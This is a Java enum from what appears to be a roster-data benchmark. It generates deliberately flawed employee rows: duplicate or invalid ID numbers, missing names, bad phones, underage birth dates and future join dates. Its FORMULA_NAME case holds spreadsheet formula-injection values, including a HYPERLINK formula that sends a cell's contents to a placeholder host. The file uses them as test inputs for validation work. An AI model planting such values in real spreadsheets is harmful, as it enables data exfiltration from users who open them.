package cn.zhigong.bench.roster;

import java.time.LocalDate;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/** What can be wrong with a row. */
public enum Flaw {
    /** The person of another row once more. */
    DUPLICATE {
        @Override
        RosterRow spoilt(RosterRow row, LocalDate today, Random random) {
            return row.withIdentityNumber(row.identityNumber().toLowerCase(Locale.ROOT));
        }
    },
    /** A check character that does not belong to the number. */
    CHECK_DIGIT {
        @Override
        RosterRow spoilt(RosterRow row, LocalDate today, Random random) {
            return row.withIdentityNumber(ResidentNumbers.spoilt(row.identityNumber()));
        }
    },
    NO_NAME {
        @Override
        RosterRow spoilt(RosterRow row, LocalDate today, Random random) {
            return row.withName("");
        }
    },
    /** A digit missing, one of a landline, or no number at all. */
    PHONE {
        @Override
        RosterRow spoilt(RosterRow row, LocalDate today, Random random) {
            var landline = "021-%08d".formatted(random.nextInt(100_000_000));
            return row.withPhone(
                    one(List.of(row.phone().substring(1), row.phone().substring(0, 10), landline, "无"), random));
        }
    },
    /** A child, today and for some years to come. */
    UNDER_16 {
        @Override
        RosterRow spoilt(RosterRow row, LocalDate today, Random random) {
            var number = row.identityNumber();
            // The 28th is a day of every month.
            var day = Math.min(28, Integer.parseInt(number, 12, 14, 10));
            return row.withIdentityNumber(ResidentNumbers.completed("%s%d%s%02d%s"
                    .formatted(
                            number.substring(0, 6),
                            today.getYear() - 1 - random.nextInt(8),
                            number.substring(10, 12),
                            day,
                            number.substring(14, 17))));
        }
    },
    FUTURE_JOIN_DATE {
        @Override
        RosterRow spoilt(RosterRow row, LocalDate today, Random random) {
            return row.withJoinedOn(today.plusYears(20 + random.nextInt(50)));
        }
    },
    /** What a spreadsheet would compute, or call out for. */
    FORMULA_NAME {
        @Override
        RosterRow spoilt(RosterRow row, LocalDate today, Random random) {
            return row.withName(one(
                    List.of(
                            "=1+1",
                            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"" + row.name() + "\")",
                            "+" + row.name(),
                            "-2+3+" + row.name(),
                            "@SUM(1,1)"),
                    random));
        }
    };

    abstract RosterRow spoilt(RosterRow row, LocalDate today, Random random);

    private static String one(List<String> texts, Random random) {
        return texts.get(random.nextInt(texts.size()));
    }

    /** As a command says it. */
    String word() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }
}
